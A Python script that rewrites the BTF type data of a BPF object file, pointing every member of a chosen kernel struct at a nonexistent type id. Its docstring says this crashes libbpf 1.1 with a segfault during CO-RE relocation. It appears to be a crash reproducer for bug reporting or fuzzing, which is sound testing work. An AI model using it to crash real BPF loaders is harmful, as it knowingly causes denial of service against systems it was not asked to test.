#!/usr/bin/env python3
"""corrupt_btf.py IN OUT [STRUCT]: writes a copy of the BPF object IN whose
.BTF section has every member of struct STRUCT (default task_struct) refer
to a type id past the last type.  libbpf 1.1 opens such an object without
complaint and dereferences the missing type while it relocates the program
(CO-RE) inside bpf_object__load: a segfault.  The ELF layout is untouched."""
import struct
import sys

BTF_KIND_STRUCT = 4
# bytes that follow the 12-byte header of each kind, per vlen item or fixed
ITEM = {4: 12, 5: 12, 6: 8, 13: 8, 15: 12, 19: 12}
FIXED = {1: 4, 3: 12, 14: 4, 17: 4}


def sections(elf):
    shoff, = struct.unpack_from("<Q", elf, 0x28)
    shentsize, shnum, shstrndx = struct.unpack_from("<HHH", elf, 0x3a)
    hdr = lambda i: struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize)
    names = hdr(shstrndx)[4]
    for i in range(shnum):
        h = hdr(i)
        name = elf[names + h[0]:elf.index(b"\0", names + h[0])].decode()
        yield name, h[4], h[5]


def main(src, dst, victim="task_struct"):
    elf = bytearray(open(src, "rb").read())
    off = next(o for name, o, _ in sections(elf) if name == ".BTF")
    hdr_len, type_off, type_len, str_off = struct.unpack_from("<IIII", elf, off + 4)
    types, strs = off + hdr_len + type_off, off + hdr_len + str_off
    name_of = lambda o: elf[strs + o:elf.index(b"\0", strs + o)].decode()
    p, end, hits = types, types + type_len, 0
    ntypes = 0
    while p < end:
        ntypes += 1
        name_off, info, _ = struct.unpack_from("<III", elf, p)
        kind, vlen = (info >> 24) & 0x1f, info & 0xffff
        if kind == BTF_KIND_STRUCT and name_of(name_off) == victim:
            for m in range(vlen):
                struct.pack_into("<I", elf, p + 12 + m * 12 + 4, 0x00ffff00)
                hits += 1
        p += 12 + FIXED.get(kind, 0) + ITEM.get(kind, 0) * vlen
    if not hits:
        sys.exit(f"{src}: no struct {victim} in its BTF")
    open(dst, "wb").write(elf)


if __name__ == "__main__":
    main(*sys.argv[1:])
